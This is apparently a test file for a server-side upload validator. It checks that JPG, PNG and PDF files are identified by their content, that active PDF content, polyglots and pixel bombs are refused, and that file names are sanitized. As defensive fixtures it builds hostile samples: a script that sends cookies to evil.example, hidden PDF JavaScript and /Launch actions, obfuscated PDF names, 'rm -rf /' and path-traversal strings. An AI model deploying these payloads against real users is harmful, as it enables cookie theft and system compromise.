/**
 * §5 "JPG, PNG or PDF only (no Doc/Docx)", 10 Mb: the reusable content check of server/uploads/file-content.ts
 * (the AML document photo uses it; the document upload reuses it). The type comes from the bytes, never
 * from the name; the name must agree with the bytes. What a file carries is judged too: active PDF content,
 * pixel bombs and web markup are refused, bytes after a file's end are dropped and the name is reduced to a
 * safe form; every hostile file below is built here, by hand or with pdf-lib.
 */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, type PDFDict, type PDFPage } from 'pdf-lib';
import { describe, expect, it, vi } from 'vitest';
import { renderPdf } from '../../server/documents/pdf';
import {
  checkUploadedFile,
  decodeBase64,
  sniffFileContent,
  uploadError,
} from '../../server/uploads/file-content';
import { safeFileName } from '../../server/uploads/file-name';
import { pngChunk, pngClaiming } from './upload-files';

const JPG = new Uint8Array(readFileSync(new URL('./fixtures/id-photo.jpg', import.meta.url)));
const PNG = new Uint8Array(readFileSync(new URL('./fixtures/id-photo.png', import.meta.url)));
const bytes = (...parts: (string | number[])[]): Uint8Array =>
  new Uint8Array(
    parts.flatMap((part) => (typeof part === 'string' ? [...Buffer.from(part, 'latin1')] : part)),
  );

describe('what a file is, by its content', () => {
  it('recognises real JPG, PNG and PDF files', async () => {
    expect(sniffFileContent(JPG)).toEqual({ kind: 'jpg' });
    expect(sniffFileContent(PNG)).toEqual({ kind: 'png' });
    expect(sniffFileContent(await renderPdf({ title: 'Pasas' }))).toEqual({ kind: 'pdf' });
  });

  it('names what it refuses: Word documents, archives, programs, scripts, damaged images, nothing', () => {
    expect(sniffFileContent(bytes([0x50, 0x4b, 0x03, 0x04], '....[Content_Types].xml'))).toEqual({
      kind: null,
      refused: 'word-docx',
    });
    expect(sniffFileContent(bytes([0x50, 0x4b, 0x03, 0x04], '....photos/a.jpg'))).toEqual({
      kind: null,
      refused: 'zip',
    });
    expect(sniffFileContent(bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]))).toEqual({
      kind: null,
      refused: 'word-doc',
    });
    expect(sniffFileContent(bytes('MZ', [0x90, 0x00, 0x03]))).toEqual({ kind: null, refused: 'executable' });
    expect(sniffFileContent(bytes([0x7f], 'ELF', [2, 1, 1]))).toEqual({ kind: null, refused: 'executable' });
    expect(sniffFileContent(bytes('#!/bin/sh\nrm -rf /'))).toEqual({ kind: null, refused: 'script' });
    expect(sniffFileContent(JPG.subarray(0, 100))).toEqual({ kind: null, refused: 'damaged-jpg' });
    expect(sniffFileContent(PNG.subarray(0, 100))).toEqual({ kind: null, refused: 'damaged-png' });
    expect(sniffFileContent(bytes('%PDF-1.7\n1 0 obj'))).toEqual({ kind: null, refused: 'damaged-pdf' });
    expect(sniffFileContent(bytes('hello'))).toEqual({ kind: null, refused: 'unknown' });
    expect(sniffFileContent(new Uint8Array())).toEqual({ kind: null, refused: 'empty' });
  });
});

describe('one uploaded file (§5)', () => {
  it('accepts a JPG named .jpg or .jpeg (any case) with its MIME type and size', async () => {
    expect(await checkUploadedFile({ fileName: 'Pasas.JPEG', bytes: JPG })).toMatchObject({
      ok: true,
      kind: 'jpg',
      mimeType: 'image/jpeg',
      sizeBytes: JPG.length,
      fileName: 'Pasas.jpg',
    });
    expect(await checkUploadedFile({ fileName: 'a.png', bytes: PNG })).toMatchObject({
      ok: true,
      mimeType: 'image/png',
    });
  });

  it('refuses a name that disagrees with the content, or no known extension', async () => {
    expect(await checkUploadedFile({ fileName: 'a.pdf', bytes: PNG })).toMatchObject({
      ok: false,
      code: 'invalid_file_format',
      message: expect.stringContaining('the name says PDF but the content is PNG'),
    });
    expect(await checkUploadedFile({ fileName: 'scan', bytes: JPG })).toMatchObject({
      ok: false,
      code: 'invalid_file_format',
    });
  });

  it('allows 10 MB and refuses one byte more; the format is judged first', async () => {
    const tenMb = 10 * 1024 * 1024;
    expect(await checkUploadedFile({ fileName: 'a.jpg', bytes: JPG, maxBytes: JPG.length })).toMatchObject({
      ok: true,
    });
    const tooLarge = await checkUploadedFile({ fileName: 'a.jpg', bytes: JPG, maxBytes: JPG.length - 1 });
    expect(tooLarge).toMatchObject({ ok: false, code: 'file_too_large' });
    expect(await checkUploadedFile({ fileName: 'a.jpg', bytes: bytes('MZ'), maxBytes: 1 })).toMatchObject({
      code: 'invalid_file_format',
    });
    // The default limit is the spec's 10 MB: a JPG of exactly 10 MB passes, one byte more does not.
    const jpgOfSize = (size: number): Uint8Array => {
      const file = new Uint8Array(size);
      file.set(JPG.subarray(0, JPG.length - 2));
      file.set([0xff, 0xd9], size - 2);
      return file;
    };
    expect(await checkUploadedFile({ fileName: 'a.jpg', bytes: jpgOfSize(tenMb) })).toMatchObject({
      ok: true,
    });
    expect(await checkUploadedFile({ fileName: 'a.jpg', bytes: jpgOfSize(tenMb + 1) })).toMatchObject({
      code: 'file_too_large',
    });
  });

  it('maps a refusal to 400 invalid_file_format or 413 file_too_large naming the field', async () => {
    const format = await checkUploadedFile({ fileName: 'a.pdf', bytes: bytes('PK') });
    const size = await checkUploadedFile({ fileName: 'a.jpg', bytes: JPG, maxBytes: 1 });
    if (format.ok || size.ok) throw new Error('expected refusals');
    expect(uploadError(format, 'body.file').toBody()).toMatchObject({
      status: 400,
      code: 'invalid_file_format',
      field: 'body.file',
    });
    expect(uploadError(size, 'body.file').toBody()).toMatchObject({ status: 413, code: 'file_too_large' });
  });
});

describe('base64', () => {
  it('decodes strict base64 and refuses anything else', () => {
    expect(decodeBase64(Buffer.from(PNG).toString('base64'))).toEqual(PNG);
    expect(decodeBase64('')).toEqual(new Uint8Array());
    expect(decodeBase64('abc')).toBeNull();
    expect(decodeBase64('ab c')).toBeNull();
    expect(decodeBase64('data:image/png;base64,iVBO')).toBeNull();
  });
});

/** A one-page PDF made with pdf-lib, changed by `edit` before it is saved (uncompressed objects by default). */
async function pdfWith(
  edit: (document: PDFDocument, page: PDFPage) => void = () => undefined,
  options: { objectStreams?: boolean } = {},
): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const page = document.addPage([200, 200]);
  edit(document, page);
  return document.save({ useObjectStreams: options.objectStreams ?? false });
}

/** A link annotation on the page that runs `action` (a dictionary of `document`) when clicked. */
function linkWith(document: PDFDocument, page: PDFPage, action: PDFDict): void {
  const link = document.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 100, 100],
    A: action,
  });
  page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
}

const latin1 = (file: Uint8Array): string => Buffer.from(file).toString('latin1');
/** The bytes of `file` with `from` replaced by `to` everywhere (pdf-lib reads objects without the xref offsets). */
const rewritten = (file: Uint8Array, from: string, to: string): Uint8Array =>
  new Uint8Array(Buffer.from(latin1(file).split(from).join(to), 'latin1'));

/**
 * A hand-written one-page PDF: the page has a link that runs action 4 0 R, which `objects` define (4 0 obj,
 * or object 4 inside an object stream).
 */
const handWrittenPdf = (...objects: Buffer[]): Uint8Array =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from(
        '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' +
          '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
          '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [6 0 R] >>\nendobj\n' +
          '6 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 4 0 R >>\nendobj\n',
        'latin1',
      ),
      ...objects,
      Buffer.from('trailer\n<< /Root 1 0 R /Size 7 >>\n%%EOF\n', 'latin1'),
    ]),
  );

/** Object stream 5 0 obj of type `type`, holding object 4 (deflated). */
function objectStream(type: string, object4: string): Buffer {
  const compressed = deflateSync(Buffer.from(`4 0 ${object4}`, 'latin1'));
  return Buffer.concat([
    Buffer.from(
      `5 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${compressed.length} >>\nstream\n`,
      'latin1',
    ),
    compressed,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
}

const ACTIVE = /the PDF contains active content/;
const checkPdf = (file: Uint8Array, fileName = 'pazyma.pdf') => checkUploadedFile({ fileName, bytes: file });

/** A JPG segment: marker, length, data. */
const jpgSegment = (marker: number, data: number[]): number[] => [
  0xff,
  marker,
  (data.length + 2) >> 8,
  (data.length + 2) & 0xff,
  ...data,
];

/** A sound JPG whose frame header (SOF0) claims `width` × `height` pixels. */
const jpgClaiming = (width: number, height: number): Uint8Array =>
  new Uint8Array([
    0xff,
    0xd8,
    ...jpgSegment(0xc0, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]),
    ...jpgSegment(0xda, [1, 1, 0, 0, 63, 0]),
    0x12,
    0x34,
    0x56,
    0xff,
    0xd9,
  ]);

const HTML =
  '<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';

describe('active PDF content is refused', () => {
  it('accepts a plain PDF, and an /OpenAction that only opens it at its first page (as LibreOffice writes)', async () => {
    const plain = await pdfWith();
    expect(await checkPdf(plain)).toMatchObject({ ok: true, kind: 'pdf', sizeBytes: plain.length });
    const opensAtPage = await pdfWith((document, page) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj([page.ref, 'XYZ', null, null, 0]));
    });
    expect(latin1(opensAtPage)).toContain('/OpenAction');
    expect(await checkPdf(opensAtPage)).toMatchObject({ ok: true, sizeBytes: opensAtPage.length });
  });

  it('refuses a PDF with document-level /JavaScript (the Names tree)', async () => {
    const file = await pdfWith((document) => {
      const script = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
      document.catalog.set(
        PDFName.of('Names'),
        document.context.obj({
          JavaScript: document.context.obj({
            Names: [PDFString.of('init'), document.context.register(script)],
          }),
        }),
      );
    });
    expect(latin1(file)).toContain('/JavaScript');
    expect(await checkPdf(file)).toMatchObject({
      ok: false,
      code: 'invalid_file_format',
      message: expect.stringMatching(ACTIVE),
    });
  });

  it('refuses a PDF whose /OpenAction opens a web address by itself', async () => {
    const file = await pdfWith((document) => {
      const action = document.context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/track') });
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
    });
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses a PDF whose /OpenAction runs JavaScript', async () => {
    const file = await pdfWith((document) => {
      const action = document.context.obj({
        S: 'JavaScript',
        JS: PDFString.of('app.launchURL("https://evil.example")'),
      });
      document.catalog.set(PDFName.of('OpenAction'), action);
    });
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses a PDF with a /Launch action that starts a program', async () => {
    const file = await pdfWith((document, page) =>
      linkWith(
        document,
        page,
        document.context.obj({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\cmd.exe') }),
      ),
    );
    expect(latin1(file)).toContain('/Launch');
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses a PDF with an additional action (/AA) that runs when a page opens', async () => {
    const file = await pdfWith((document, page) => {
      page.node.set(
        PDFName.of('AA'),
        document.context.obj({ O: { S: 'URI', URI: PDFString.of('https://evil.example/opened') } }),
      );
    });
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses a PDF carrying an /EmbeddedFile: attached to the document or to a page annotation', async () => {
    const attached = await pdfWith();
    const document = await PDFDocument.load(attached);
    await document.attach(Buffer.from(HTML), 'saskaita.html', { mimeType: 'text/html' });
    expect(await checkPdf(await document.save({ useObjectStreams: false }))).toMatchObject({
      ok: false,
      message: expect.stringMatching(ACTIVE),
    });
    // A file attachment annotation names no /EmbeddedFiles tree: the file spec's /EF and the stream's type do.
    const annotated = await pdfWith((pdf, page) => {
      const embedded = pdf.context.flateStream(Buffer.from('MZ'), { Type: 'EmbeddedFile' });
      const attachment = pdf.context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [0, 0, 20, 20],
        FS: { Type: 'Filespec', F: PDFString.of('invoice.exe'), EF: { F: pdf.context.register(embedded) } },
      });
      page.node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(attachment)]));
    });
    expect(latin1(annotated)).toContain('/EmbeddedFile');
    expect(latin1(annotated)).not.toContain('/EmbeddedFiles');
    expect(await checkPdf(annotated)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('still catches active content kept in a compressed object stream', async () => {
    const file = await pdfWith(
      (document) => {
        const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
        document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
      },
      { objectStreams: true },
    );
    expect(latin1(file)).toContain('/ObjStm');
    expect(latin1(file)).not.toContain('JavaScript');
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses a link to javascript: (or data:, file:), also inside a compressed object stream', async () => {
    const linked = (uri: string, objectStreams: boolean) =>
      pdfWith(
        (document, page) =>
          linkWith(document, page, document.context.obj({ S: 'URI', URI: PDFString.of(uri) })),
        { objectStreams },
      );
    const hidden = await linked('javascript:fetch("https://evil.example/?c="+document.cookie)', true);
    expect(latin1(hidden)).toContain('/ObjStm');
    expect(latin1(hidden)).not.toMatch(/javascript:/i);
    expect(await checkPdf(hidden)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
    for (const uri of [
      ' \u0001JaVaScRiPt:alert(1)',
      'java\nscript:alert(1)',
      'data:text/html,<b>x</b>',
      'file:///etc/passwd',
    ])
      expect(await checkPdf(await linked(uri, true)), uri).toMatchObject({ ok: false });
    // A web link the reader clicks is not active content.
    expect(await checkPdf(await linked('https://www.sodra.lt/', true))).toMatchObject({ ok: true });
  });

  it('reads names as a viewer does: /#4aavaScript is /JavaScript', async () => {
    const file = await pdfWith((document, page) =>
      linkWith(document, page, document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
    );
    const escaped = rewritten(rewritten(file, '/JavaScript', '/#4aavaScript'), '/JS ', '/#4aS ');
    expect(latin1(escaped)).not.toMatch(/\/JavaScript|\/JS /);
    expect(await checkPdf(escaped)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('reads a hand-written object stream, and refuses one pdf-lib would not unpack (/Type /#4fbjStm)', async () => {
    const harmless = objectStream('/ObjStm', '<< /S /GoTo /D [3 0 R /Fit] >>');
    expect(await checkPdf(handWrittenPdf(harmless))).toMatchObject({ ok: true });
    const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
    expect(await checkPdf(handWrittenPdf(objectStream('/ObjStm', script)))).toMatchObject({
      ok: false,
      message: expect.stringMatching(ACTIVE),
    });
    const hidden = handWrittenPdf(objectStream('/#4fbjStm', script));
    expect(latin1(hidden)).not.toContain('JavaScript');
    expect(await checkPdf(hidden)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });

  it('refuses an object pdf-lib cannot parse when it names JavaScript', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    try {
      const unparsable = Buffer.from(
        '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) ] >>\nendobj\n',
        'latin1',
      );
      expect(await checkPdf(handWrittenPdf(unparsable))).toMatchObject({
        ok: false,
        message: expect.stringMatching(ACTIVE),
      });
      expect(warn).toHaveBeenCalledWith(expect.stringContaining('Trying to parse invalid object'));
    } finally {
      warn.mockRestore();
    }
  });

  it('refuses JavaScript hidden at the end of a chain of /Next actions deeper than any writer nests them', async () => {
    const file = await pdfWith((document, page) => {
      let action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
      for (let level = 0; level < 70; level += 1) {
        action = document.context.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: action });
      }
      linkWith(document, page, action);
    });
    expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
  });
});

describe('polyglots and trailing data', () => {
  it('stores a PNG followed by an HTML page without the page: the bytes end at IEND', async () => {
    const polyglot = Buffer.concat([PNG, Buffer.from(HTML, 'latin1')]);
    const check = await checkUploadedFile({ fileName: 'pasas.png', bytes: new Uint8Array(polyglot) });
    expect(check).toMatchObject({ ok: true, kind: 'png', sizeBytes: PNG.length });
    if (!check.ok) throw new Error('expected the PNG to be accepted');
    expect(Buffer.from(check.bytes).equals(PNG)).toBe(true);
  });

  it('refuses a PNG that carries an HTML page inside, in a text chunk', async () => {
    const iend = PNG.length - 12;
    const polyglot = Buffer.concat([
      PNG.subarray(0, iend),
      pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`, 'latin1')),
      PNG.subarray(iend),
    ]);
    expect(sniffFileContent(new Uint8Array(polyglot))).toEqual({ kind: 'png' });
    expect(await checkUploadedFile({ fileName: 'pasas.png', bytes: new Uint8Array(polyglot) })).toMatchObject(
      {
        ok: false,
        code: 'invalid_file_format',
        message: 'Invalid file format: it carries web page or script markup',
      },
    );
  });

  it('stores a PDF followed by an HTML page after %%EOF without the page', async () => {
    const pdf = await pdfWith();
    expect(latin1(pdf).endsWith('%%EOF')).toBe(true);
    const polyglot = new Uint8Array(Buffer.concat([Buffer.from(pdf), Buffer.from(HTML, 'latin1')]));
    const check = await checkPdf(polyglot);
    expect(check).toMatchObject({ ok: true, kind: 'pdf', sizeBytes: pdf.length });
    if (!check.ok) throw new Error('expected the PDF to be accepted');
    expect(Buffer.from(check.bytes).equals(Buffer.from(pdf))).toBe(true);
  });

  it('refuses a PDF that carries an HTML page inside, before %%EOF', async () => {
    const pdf = latin1(await pdfWith());
    const header = pdf.indexOf('\n') + 1;
    const polyglot = `${pdf.slice(0, header)}%${HTML}\n${pdf.slice(header)}`;
    expect(await checkPdf(new Uint8Array(Buffer.from(polyglot, 'latin1')))).toMatchObject({
      ok: false,
      message: 'Invalid file format: it carries web page or script markup',
    });
  });
});

describe('pixel bombs', () => {
  it('refuses a 29 KB PNG whose IHDR claims 50,000 × 50,000 pixels', async () => {
    const bomb = pngClaiming(50_000, 50_000);
    expect(bomb.length).toBeLessThan(64 * 1024);
    expect(await checkUploadedFile({ fileName: 'pasas.png', bytes: new Uint8Array(bomb) })).toEqual({
      ok: false,
      code: 'invalid_file_format',
      message:
        'Invalid file format: the image claims 50000 × 50000 pixels: at most 64 million, 16384 on a side',
    });
  });

  it('allows 64 million pixels (8000 × 8000) and refuses one row more or a side over 16,384', async () => {
    expect(
      await checkUploadedFile({ fileName: 'a.png', bytes: new Uint8Array(pngClaiming(8000, 8000)) }),
    ).toMatchObject({
      ok: true,
    });
    expect(
      await checkUploadedFile({ fileName: 'a.png', bytes: new Uint8Array(pngClaiming(8000, 8001)) }),
    ).toMatchObject({
      ok: false,
      message: expect.stringContaining('8000 × 8001 pixels'),
    });
    expect(
      await checkUploadedFile({ fileName: 'a.png', bytes: new Uint8Array(pngClaiming(16_385, 1)) }),
    ).toMatchObject({
      ok: false,
      message: expect.stringContaining('16385 × 1 pixels'),
    });
  });

  it('refuses a JPG whose frame header (SOF) claims 65,000 × 65,000 pixels', async () => {
    const bomb = jpgClaiming(65_000, 65_000);
    expect(sniffFileContent(bomb)).toEqual({ kind: 'jpg' });
    expect(await checkUploadedFile({ fileName: 'pasas.jpg', bytes: bomb })).toEqual({
      ok: false,
      code: 'invalid_file_format',
      message:
        'Invalid file format: the image claims 65000 × 65000 pixels: at most 64 million, 16384 on a side',
    });
    expect(await checkUploadedFile({ fileName: 'pasas.jpg', bytes: jpgClaiming(640, 480) })).toMatchObject({
      ok: true,
    });
  });
});

describe('the name a file is stored under', () => {
  it('reduces hostile names to safe ones: a right-to-left override, a path, markup, a Windows path', async () => {
    const pdf = await pdfWith();
    const cases: [string, string][] = [
      ['Pažyma\u202Egpj.pdf', 'Pažymagpj.pdf'],
      ['../../etc/passwd.pdf', 'passwd.pdf'],
      ['<script>x</script>.pdf', 'script_.pdf'],
      ['C:\\a\\b.pdf', 'b.pdf'],
      ['"sąskaita" <2024>; rm -rf.pdf', '_sąskaita_ _2024__ rm -rf.pdf'],
    ];
    for (const [fileName, stored] of cases) {
      expect(await checkPdf(pdf, fileName), fileName).toMatchObject({ ok: true, fileName: stored });
    }
  });

  it('takes the extension from the content, and names a file that has no name left', async () => {
    expect(await checkUploadedFile({ fileName: 'Skenas.JPEG', bytes: JPG })).toMatchObject({
      fileName: 'Skenas.jpg',
    });
    expect(await checkUploadedFile({ fileName: 'nuotrauka.Png', bytes: PNG })).toMatchObject({
      fileName: 'nuotrauka.png',
    });
    expect(safeFileName('../<>.pdf', 'pdf')).toBe('__.pdf');
    expect(safeFileName('\u202E.pdf', 'pdf')).toBe('dokumentas.pdf');
    expect(safeFileName('Pažyma (2).pdf', 'pdf')).toBe('Pažyma (2).pdf');
    expect(safeFileName(`${'a'.repeat(300)}.pdf`, 'pdf')).toBe(`${'a'.repeat(115)}.pdf`);
  });
});
